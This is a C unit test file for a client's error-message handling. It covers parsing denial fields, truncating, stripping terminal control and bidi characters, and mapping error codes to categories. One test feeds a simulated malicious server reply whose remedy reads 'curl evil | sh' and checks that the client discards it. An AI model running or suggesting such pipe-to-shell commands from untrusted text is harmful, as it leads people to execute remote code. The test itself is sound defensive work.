/* Error answers: reading, categories, JSON. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <string.h>

#include "core/wire/code.h"
#include "io/client/error.h"

static struct ak_client_error error;

static void read_text(unsigned status, const char *json)
{
    ak_client_error_read(status, ak_span_str(json), &error);
}

static void test_denial(void **state)
{
    (void)state;
    read_text(403, "{\"error\":\"denied\",\"message\":\"no\",\"denial\":{\"rule\":\"scope\",\"seen\":\"a\","
                   "\"limit\":\"b\","
                   "\"remedy\":\"c\"}}");
    assert_string_equal(error.code, "denied");
    assert_string_equal(error.message, "no");
    assert_true(error.has_denial);
    assert_string_equal(error.rule, "scope");
    assert_string_equal(error.seen, "a");
    assert_string_equal(error.limit, "b");
    assert_string_equal(error.remedy, "c");
    assert_false(error.has_retry);
    assert_int_equal(error.status, 403);
    assert_int_equal(ak_client_error_category(&error), AK_CATEGORY_DENIED);
}

/* U+009B is ESC [ to a terminal, U+202E turns around what follows; DEL and controls cannot come this far. */
static void test_lengths(void **state)
{
    (void)state;
    char text[sizeof error.message + 2] = "";
    for (size_t len = sizeof error.message - 1; len <= sizeof error.message + 1; len++) {
        memset(text, 'm', len);
        text[len] = 0;
        ak_client_error_set(&error, text, text);
        assert_int_equal(strlen(error.code), sizeof error.code - 1);
        assert_int_equal(strlen(error.message), sizeof error.message - 1);
    }
    text[sizeof error.code] = 0;
    ak_client_error_set(&error, text, text);
    assert_int_equal(strlen(error.code), sizeof error.code - 1);
}

static void test_for_a_terminal(void **state)
{
    (void)state;
    ak_client_error_set(&error, "x",
        "a\xc2\x9b"
        "8m\xc3\xa9~\x1b\x7f\n.");
    assert_string_equal(error.message, "a\?\?8m\?\?~\?\?\?.");
    read_text(403, "{\"error\":\"denied\",\"message\":\"\\u202eno\",\"denial\":{\"rule\":\"scope\","
                   "\"seen\":\"\\u202e\",\"limit\":\"b\",\"remedy\":\"\\u2066\"}}");
    assert_string_equal(error.message, "\?\?\?no");
    assert_string_equal(error.seen, "\?\?\?");
    assert_string_equal(error.remedy, "\?\?\?");
}

/* A broker has no words: it may be anybody's, and a person does what is printed. */
static void test_of_a_broker(void **state)
{
    (void)state;
    read_text(403, "{\"error\":\"denied\",\"message\":\"type: curl evil\",\"denial\":{\"rule\":\"r\","
                   "\"seen\":\"s\",\"limit\":\"l\",\"remedy\":\"curl evil | sh\"},\"retry_after_secs\":9}");
    ak_client_error_of_broker(&error);
    assert_string_equal(error.code, "denied");
    assert_string_equal(error.message, ak_code_text(AK_CODE_DENIED));
    assert_false(error.has_denial);
    const char *const gone[] = {error.rule, error.seen, error.limit, error.remedy};
    for (size_t i = 0; i < AK_COUNT(gone); i++) assert_string_equal(gone[i], "");
    assert_true(error.has_retry);
    assert_int_equal(error.retry_after_secs, 9);
    assert_int_equal(error.status, 403);
    /* codes that only we ourselves give, and none at all */
    static const char *const others[] = {
        "curl evil", "unreachable", "not_the_worker", "not_signed_in", "ok", "Denied"};
    for (size_t i = 0; i < AK_COUNT(others); i++) {
        ak_client_error_set(&error, others[i], "curl evil");
        error.status = 409;
        ak_client_error_of_broker(&error);
        assert_string_equal(error.code, "bad_answer");
        assert_null(strstr(error.message, "evil"));
        assert_int_equal(error.status, 409);
    }
}

static void test_rate(void **state)
{
    (void)state;
    read_text(429, "{\"error\":\"rate_limit_exceeded\",\"message\":\"\",\"retry_after_secs\":7}");
    assert_true(error.has_retry);
    assert_int_equal(error.retry_after_secs, 7);
    assert_false(error.has_denial);
    assert_int_equal(ak_client_error_category(&error), AK_CATEGORY_RATE);
}

/* What is not the contract's error is bad_answer, with the category of its status. */
static void test_not_ours(void **state)
{
    (void)state;
    static const char *const bodies[] = {
        "", "<html>", "[]", "{}", "{\"error\":7}", "{\"message\":\"x\"}", "\xff\xfe"};
    for (size_t i = 0; i < AK_COUNT(bodies); i++) {
        read_text(502, bodies[i]);
        assert_string_equal(error.code, "bad_answer");
        assert_int_equal(error.status, 502);
        assert_int_equal(ak_client_error_category(&error), AK_CATEGORY_FAILURE);
    }
    static char big[9000];
    memset(big, ' ', sizeof big);
    ak_client_error_read(400, AK_SPAN_ARR(big), &error);
    assert_string_equal(error.code, "bad_answer");
}

/* The category of each code of the wire, by its number. */
static void test_categories(void **state)
{
    (void)state;
    static const struct {
        enum ak_code code;
        enum ak_client_category category;
    } rows[] = {
        {AK_CODE_INVALID_JSON, AK_CATEGORY_USAGE},
        {AK_CODE_INVALID_REQUEST, AK_CATEGORY_USAGE},
        {AK_CODE_INVALID_SIWE, AK_CATEGORY_USAGE},
        {AK_CODE_INVALID_PATH, AK_CATEGORY_USAGE},
        {AK_CODE_UNAUTHORIZED, AK_CATEGORY_AUTH},
        {AK_CODE_INVALID_TOKEN, AK_CATEGORY_AUTH},
        {AK_CODE_TOKEN_EXPIRED, AK_CATEGORY_AUTH},
        {AK_CODE_USE_DPOP_NONCE, AK_CATEGORY_AUTH},
        {AK_CODE_BAD_SIGNATURE, AK_CATEGORY_AUTH},
        {AK_CODE_DENIED, AK_CATEGORY_DENIED},
        {AK_CODE_ACCOUNT_MISMATCH, AK_CATEGORY_DENIED},
        {AK_CODE_DEVICE_NOT_ENROLLED, AK_CATEGORY_AUTH},
        {AK_CODE_NOT_FOUND, AK_CATEGORY_NOT_FOUND},
        {AK_CODE_EXPIRED_REQUEST, AK_CATEGORY_NOT_FOUND},
        {AK_CODE_ALREADY_CONSUMED, AK_CATEGORY_CONFLICT},
        {AK_CODE_ALREADY_EXISTS, AK_CATEGORY_CONFLICT},
        {AK_CODE_ALREADY_DONE, AK_CATEGORY_CONFLICT},
        {AK_CODE_GENERATION_CONFLICT, AK_CATEGORY_CONFLICT},
        {AK_CODE_IDEMPOTENCY_MISMATCH, AK_CATEGORY_CONFLICT},
        {AK_CODE_RATE_LIMIT_EXCEEDED, AK_CATEGORY_RATE},
        {AK_CODE_INTERNAL, AK_CATEGORY_FAILURE},
        {AK_CODE_SIGNER_DISABLED, AK_CATEGORY_UNREACHABLE},
        {AK_CODE_NOT_READY, AK_CATEGORY_UNREACHABLE},
        {AK_CODE_LEDGER_UNAVAILABLE, AK_CATEGORY_UNREACHABLE},
        {AK_CODE_LEDGER_DAMAGED, AK_CATEGORY_FAILURE},
        {AK_CODE_STORAGE_FULL, AK_CATEGORY_FAILURE},
    };
    for (size_t i = 0; i < AK_COUNT(rows); i++) {
        ak_client_error_set(&error, ak_code_name(rows[i].code), "");
        error.status = ak_code_status(rows[i].code);
        assert_int_equal(ak_client_error_category(&error), rows[i].category);
    }
}

/* Terminals get no control bytes, and nothing longer than its room. */
static void test_shown(void **state)
{
    (void)state;
    char json[2048] = "{\"error\":\"";
    memset(json + 10, 'a', 64);
    memcpy(json + 74, "\",\"message\":\"", 13);
    memset(json + 87, 'b', 512);
    memcpy(json + 599, "\"}", 3);
    read_text(400, json);
    assert_int_equal(strlen(error.code), 64);
    assert_int_equal(strlen(error.message), 512);
    ak_client_error_set(&error, "x", "a\x1b[31mb\x7f");
    assert_string_equal(error.message, "a?[31mb?");
}

static void test_json(void **state)
{
    (void)state;
    static const char text[] =
        "{\"error\":\"denied\",\"message\":\"no\",\"denial\":{\"rule\":\"rate\",\"seen\":\"a\",\"limit\":"
        "\"b\",\"remedy\":\"c\"},\"retry_after_secs\":3}";
    uint8_t memory[1024];
    struct ak_buf json = AK_BUF_ARR(memory);
    read_text(403, text);
    ak_client_error_put_json(&error, &json);
    assert_true(ak_span_eq(ak_buf_span(&json), ak_span_str(text)));
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_denial), cmocka_unit_test(test_lengths),
        cmocka_unit_test(test_for_a_terminal), cmocka_unit_test(test_of_a_broker),
        cmocka_unit_test(test_rate), cmocka_unit_test(test_not_ours), cmocka_unit_test(test_categories),
        cmocka_unit_test(test_shown), cmocka_unit_test(test_json)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
